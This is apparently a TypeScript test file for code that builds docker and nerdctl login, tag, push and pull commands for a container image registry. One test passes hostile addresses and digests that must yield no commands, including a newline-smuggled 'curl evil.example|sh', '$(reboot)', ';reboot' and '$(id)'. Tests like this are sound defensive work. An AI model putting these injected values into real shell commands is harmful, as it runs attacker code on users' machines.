import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  projectCommands,
  repositoryCommands,
  tagCommands,
} from '../../../src/routes/infrastructure/registry-commands';

const host = 'registry.example.com:5000';
const address = `${host}/base/nginx`;
const said = (commands: readonly { readonly step: string; readonly command: string }[]) => {
  for (const { step, command } of commands)
    assert.ok(command.startsWith(step.replace(/ @.*/, ' ')), `${step}: ${command}`);
  const [docker, others] = [/^docker /, /^nerdctl /].map((tool) =>
    commands.map(({ command }) => command).filter((command) => tool.test(command)),
  );
  assert.deepEqual(
    others?.map((command) => command.replace(/^nerdctl/, 'docker')),
    docker,
    'both tools say the same',
  );
  return docker;
};

describe('commands of the image registry', () => {
  it('push the first image of a project', () =>
    assert.deepEqual(said(projectCommands({ address: `${host}/base` })), [
      `docker login ${host}`,
      `docker tag my-image:1.0.0 ${host}/base/my-image:1.0.0`,
      `docker push ${host}/base/my-image:1.0.0`,
    ]));

  it('push one more version of an image', () =>
    assert.deepEqual(said(repositoryCommands({ address })), [
      `docker login ${host}`,
      `docker tag nginx:new-version ${address}:new-version`,
      `docker push ${address}:new-version`,
    ]));

  it('pull a version by its name and by its digest', () =>
    assert.deepEqual(said(tagCommands({ address: `${address}:1.0.0`, digest: 'sha256:ab' })), [
      `docker login ${host}`,
      `docker pull ${address}:1.0.0`,
      `docker pull ${address}@sha256:ab`,
    ]));

  it('say nothing that no tool would take, whatever a server leaves out', () => {
    const wrong = [
      ...[
        '',
        host,
        `${host}/`,
        `https://${address}`,
        `${host}/base/`,
        `${address} x`,
        `${address}:-x`,
      ],
      ...[`${address}\ncurl evil.example|sh`, `${host}/$(reboot)`, `-v/${address}`, '-pabc/base'],
      ...[`${address}@sha256:cd`, `${host}/base;reboot`],
    ];
    for (const commandsOf of [projectCommands, repositoryCommands, tagCommands]) {
      for (const each of wrong)
        assert.deepEqual(commandsOf({ address: each, digest: 'sha256:ab' }), [], each);
    }
    for (const commandsOf of [projectCommands, repositoryCommands])
      assert.deepEqual(
        commandsOf({ address: `${address}:1.0.0` }),
        [],
        'a tag has no images below it',
      );
    for (const digest of ['ab', 'sha256:ab x', '$&', 'sha256:$(id)'])
      assert.equal(tagCommands({ address, digest }).length, 4, digest);
    assert.deepEqual(said(tagCommands({ address, digest: '' })), [
      `docker login ${host}`,
      `docker pull ${address}`,
    ]);
    assert.deepEqual(
      said(tagCommands({ address, digest: 'sha256:ab' }))?.at(-1),
      `docker pull ${address}@sha256:ab`,
    );
  });
});
